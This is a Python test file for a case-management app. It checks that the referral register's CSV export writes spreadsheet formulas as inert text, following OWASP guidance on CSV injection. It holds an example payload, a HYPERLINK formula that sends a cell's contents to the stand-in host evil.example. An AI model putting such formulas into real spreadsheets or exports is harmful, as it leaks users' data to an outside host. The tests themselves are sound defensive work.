"""Exports cannot attack their reader: a cell a spreadsheet would run as a formula is written as text
(OWASP CSV injection) in the referral register; register/tests/test_exports.py checks the report."""

from safeguard.testing import csv_rows

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_the_referral_register_csv_writes_a_formula_as_text(client, world, make_case, make_referral):
    case = make_case(first_name=ATTACK, children=1)
    make_referral(case=case, contact="@SUM(1+1)")
    client.force_login(world["lead1"])
    rows = csv_rows(client.get("/referrals/", {"format": "csv"}))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert any(ATTACK in cell for cell in cells)  # the name is still there, to read, not to run


def test_each_formula_start_is_neutralised_and_ordinary_values_are_untouched():
    from safeguard.core.exports import safe_cell

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Darren Holt") == "Darren Holt" and safe_cell(-3) == -3 and safe_cell("") == ""
